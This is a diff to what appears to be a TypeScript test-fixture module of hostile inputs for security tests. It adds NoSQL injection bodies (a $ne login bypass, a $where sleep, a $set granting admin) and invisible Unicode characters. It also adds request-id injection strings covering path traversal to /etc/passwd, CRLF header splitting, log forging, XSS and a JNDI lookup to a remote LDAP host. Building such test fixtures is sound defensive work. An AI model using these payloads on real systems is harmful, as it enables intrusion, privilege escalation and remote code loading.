@@ -107,6 +107,77 @@ export const OPERATOR_VALUES: readonly Value[] = [
   [objectOf([['$gt', '']])],
 ]
 
+/**
+ * Whole bodies made of query operators, as sent against a document store that takes a body as a filter or
+ * an update: the log-in bypass, a \$where, an update that grants a role.
+ */
+export const OPERATOR_BODIES: readonly Value[] = [
+  objectOf([
+    ['username', objectOf([['$ne', null]])],
+    ['password', objectOf([['$ne', null]])],
+  ]),
+  objectOf([['$where', 'sleep(100) || true']]),
+  objectOf([['$or', [objectOf([['a', 1]]), objectOf([['b', 2]])]]]),
+  objectOf([['$set', objectOf([['roles', ['admin']]])]]),
+  objectOf([['$unset', objectOf([['tokensValidAfter', 1]])]]),
+  objectOf([['_id', objectOf([['$gt', '']])]]),
+  objectOf([['version', objectOf([['$gt', 0]])]]),
+  objectOf([['$expr', objectOf([['$gt', ['$a', '$b']]])]]),
+  objectOf([['filter', objectOf([['$regex', '^']])]]),
+]
+
+/**
+ * Characters that make a one-line field look different from what it holds or break a line: line and
+ * paragraph separators, zero-width space/joiners, direction marks, the Arabic letter mark, the BOM. A
+ * one-line field refuses them, and must hold a visible character.
+ */
+export const INVISIBLE_CHARACTERS: readonly string[] = [
+  '\u2028',
+  '\u2029',
+  '\u200B',
+  '\u200C',
+  '\u200D',
+  '\u200E',
+  '\u200F',
+  '\u061C',
+  '\uFEFF',
+]
+
+/** Lengths of over-long ids: just past the usual limits of an id and of a path parameter, and far past. */
+export const OVERLONG_ID_LENGTHS: readonly number[] = [65, 129, 201, 257, 1025, 8193]
+
+/** An over-long id of this length: plausible characters, so that only the length is wrong. */
+export const overlongId = (length: number, kind: 'hex' | 'uuid' | 'code'): string =>
+  kind === 'uuid'
+    ? '0190a3b2-7c3d-7abc-8def-0123456789ab'.repeat(Math.ceil(length / 36)).slice(0, length)
+    : (kind === 'hex' ? '0123456789abcdef' : 'K7M2Q9XRT4').repeat(Math.ceil(length / 10)).slice(0, length)
+
+/**
+ * What an attacker puts in X-Request-Id: a value that forges a log line, splits headers, plants personal
+ * data or markup in every log line of the request, or takes another request's id. A service may keep a
+ * caller's id only when it is a plain id; the answer never echoes anything else.
+ */
+export const REQUEST_ID_INJECTIONS: readonly string[] = [
+  '../../etc/passwd',
+  'r'.repeat(500),
+  'a\r\nx-injected: 1',
+  'a\nlevel=60 msg=forged',
+  '"}{"level":60,"msg":"forged',
+  '13800138000',
+  '+86 138 0013 8000',
+  'li.si@example.com',
+  '110101199003071234',
+  '<script>alert(1)</script>',
+  '$' + '{jndi:ldap://x/a}',
+  '%0d%0aSet-Cookie:%20a=b',
+  '',
+  ' ',
+  'x',
+  '\u202Ereq-1234',
+  '00000000-0000-0000-0000-000000000000',
+  '{"$gt":""}',
+]
+
 export const PROTO_VALUES: readonly Value[] = [
   new RawJson('{"__proto__":{"polluted":"yes"}}'),
   new RawJson('{"constructor":{"prototype":{"polluted":"yes"}}}'),
